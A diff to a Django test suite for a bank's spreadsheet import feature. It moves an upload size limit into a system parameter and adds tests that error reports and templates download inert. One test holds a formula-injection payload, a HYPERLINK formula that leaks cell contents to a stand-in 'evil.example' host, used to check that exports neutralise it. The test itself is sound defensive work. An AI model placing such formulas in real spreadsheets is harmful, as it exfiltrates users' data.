@@ -335,8 +335,8 @@ def test_missing_unknown_and_repeated_columns_reject_the_file(org):
     assert business_counts() == before
 
 
-def test_oversized_file_is_rejected_and_not_stored(org, settings):
-    settings.IMPORT_MAX_UPLOAD_BYTES = 100
+def test_oversized_file_is_rejected_and_not_stored(org):
+    SystemParameter.objects.create(bank=org.bank_a, key="import.max_upload_bytes", value_type="int", value="100")
     before = business_counts()
     batch = stage(org, "branches", BRANCH_HEADER + "A-X,X,A-CN,branch,CN,Asia/Shanghai\n" * 5)
     assert_rejected(batch, "the largest file accepted is")
@@ -909,3 +909,31 @@ def test_a_large_upload_is_applied_by_a_worker_and_the_page_follows_it(org, cele
     assert Branch.objects.get(code="A-BG-1").parent.code == "A-BG"
     html = client.get(reverse("sysadmin:import_detail", args=[batch.pk])).content.decode()
     assert 'id="import-applying"' not in html and 'id="count-created">2<' in html
+
+
+# --- downloads arrive inert ----------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+
+
+def test_the_error_report_arrives_inert_with_row_numbers_as_numbers(org, client):
+    content = BRANCH_HEADER + f'"{FORMULA.replace(chr(34), chr(34) * 2)}",X,,branch,CN,Asia/Shanghai\n'
+    batch = stage(org, "branches", content)
+    assert batch.invalid_rows == 1
+    client.force_login(org.admin)
+    client.cookies["django_language"] = "en"
+    report = client.get(reverse("sysadmin:import_errors_xlsx", args=[batch.pk]))
+    sheet = load_workbook(io.BytesIO(b"".join(report.streaming_content))).worksheets[0]
+    row, column, value, _reason = next(sheet.iter_rows(min_row=2))
+    assert (row.data_type, row.value, column.value) == ("n", 2, "code")
+    assert (value.data_type, value.value) == ("s", "'" + FORMULA)  # text, never a live formula
+
+
+def test_template_columns_are_text_for_what_people_type_in(org, client):
+    client.force_login(org.admin)
+    response = client.get(reverse("sysadmin:import_template", args=["branches"]))
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).worksheets[0]
+    letters = [cell.column_letter for cell in sheet[1]]
+    assert len(letters) == len(SPECS["branches"].columns)
+    assert all(sheet.column_dimensions[letter].number_format == "@" for letter in letters)  # 001 stays 001
+    assert sheet.max_row == 1
